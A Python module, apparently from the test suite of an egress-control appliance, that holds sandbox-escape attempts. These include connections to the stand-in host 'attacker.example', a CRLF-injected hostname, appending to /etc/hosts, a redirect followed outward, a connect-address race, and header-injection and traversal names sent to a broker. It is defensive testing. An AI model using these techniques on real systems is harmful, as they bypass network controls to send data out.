"""What an intruder does inside single processes: every socket there is, and misuse of gate and broker.

The tests send the source of these functions into the live process, with the port of the one named
destination as NAMED; that is why each brings its own imports.
"""
# ruff: noqa: PLC0415 - each function must be whole by itself

from collections.abc import Callable
from typing import Any

from appliance.egress.attacks.targets import Targets

NAMED = 0
Attack = Callable[[Targets], Any]


def control(_to: Targets) -> str:
    """The named destination is reached; what comes back is a redirect to the outside."""
    import socket

    with socket.create_connection(("127.0.0.1", NAMED), 10) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return sock.recv(100).decode()


def sweep(_to: Targets) -> list[tuple[int, int, int]]:
    """48 families by 7 types by 13 protocols."""
    from appliance.egress.attacks.network import SOCKET_TYPES, open_sockets

    protocols = (0, 1, 2, 6, 16, 17, 33, 41, 58, 132, 136, 255, 262)
    return open_sockets(range(48), SOCKET_TYPES, protocols)


def another_port(to: Targets) -> None:
    import socket

    socket.create_connection(("127.0.0.1", to.tcp), 5).sendall(to.payload)


def another_address_with_the_same_port(to: Targets) -> None:
    import socket

    socket.create_connection(("127.0.0.2", NAMED), 5).sendall(to.payload)


def a_name_nobody_named(to: Targets) -> None:
    import socket

    socket.create_connection(("attacker.example", to.tcp), 5)


def a_name_with_a_line_break(to: Targets) -> None:
    import socket

    socket.create_connection(("localhost\r\nattacker.example", to.tcp), 5)


def a_name_of_a_million_letters(to: Targets) -> None:
    import socket

    try:
        socket.create_connection(("a" * 1_000_000, to.tcp), 5)
    except UnicodeError as error:
        raise OSError(2, str(error)[:40]) from None


def a_name_bound_anew(to: Targets) -> None:
    import pathlib
    import socket

    with pathlib.Path("/etc/hosts").open("a") as hosts:
        hosts.write("127.0.0.1 attacker.example\n")
    socket.create_connection(("attacker.example", to.tcp), 5)


def a_granted_connection_dialled_again(to: Targets) -> None:
    import socket

    from appliance.egress import linux

    with socket.create_connection(("127.0.0.1", NAMED), 5) as sock:
        linux.call("connect", sock.fileno(), bytes(16), 16)
        sock.connect(("127.0.0.1", to.tcp))
        sock.sendall(to.payload)


def a_granted_connection_with_another_address(to: Targets) -> None:
    import socket

    with socket.create_connection(("127.0.0.1", NAMED), 5) as sock:
        sock.sendto(to.payload, 0x20000000, ("127.0.0.1", to.tcp))


def a_granted_socket_as_a_door(_to: Targets) -> None:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()


def a_redirect_followed(to: Targets) -> None:
    import http.client
    import urllib.parse

    first = http.client.HTTPConnection("127.0.0.1", NAMED, timeout=5)
    first.request("GET", "/")
    where = urllib.parse.urlsplit(first.getresponse().headers["Location"])
    first.close()
    http.client.HTTPConnection(where.hostname or "", where.port, timeout=5).request("GET", f"/{to.message}")


def an_address_changed_while_it_is_read(to: Targets) -> None:
    """Another thread turns the named address into the outside's between check and use; the outside judges."""
    import contextlib
    import ctypes
    import socket
    import threading

    from appliance.egress import linux
    from appliance.egress.attacks.network import _address

    good, bad, memory = _address(NAMED), _address(to.tcp), ctypes.create_string_buffer(16)
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            memory.raw = good
            memory.raw = bad

    thread = threading.Thread(target=flip)
    thread.start()
    try:
        for _ in range(100):
            with socket.socket() as sock, contextlib.suppress(OSError):
                linux.call("connect", sock.fileno(), memory, 16)
                sock.sendall(to.payload)
    finally:
        stop.set()
        thread.join()
    raise PermissionError(1, "what the outside heard decides")


def dial_what_nobody_named(to: Targets) -> None:
    """In the gate: ask the broker for other places, by every name that could be bent; the outside judges."""
    import gc

    from appliance.protocol.egress import Dial
    from appliance.protocol.framing import encode

    gate: Any = next(one for one in gc.get_objects() if type(one).__name__ == "Gate")
    names = ["attacker", f"127.0.0.1:{to.tcp}", "named\r\nHost: x", "n" * 100_000, "", "../named", "NAMED"]
    for number, name in enumerate(names, 10**9):
        gate._dials._broker.sendall(encode(Dial(number, name)))
    raise PermissionError(1, "what the outside heard decides")


def a_door_of_its_own(_to: Targets) -> None:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()


def a_name_server(to: Targets) -> None:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(to.payload, ("127.0.0.1", to.udp))


MISUSE: dict[str, tuple[Attack, ...]] = {
    "web": (
        another_port,
        another_address_with_the_same_port,
        a_name_nobody_named,
        a_name_with_a_line_break,
        a_name_of_a_million_letters,
        a_name_bound_anew,
        a_granted_connection_dialled_again,
        a_granted_connection_with_another_address,
        a_granted_socket_as_a_door,
        a_redirect_followed,
        an_address_changed_while_it_is_read,
    ),
    "gate": (dial_what_nobody_named,),
    "broker": (another_port, a_door_of_its_own, a_name_server),
}
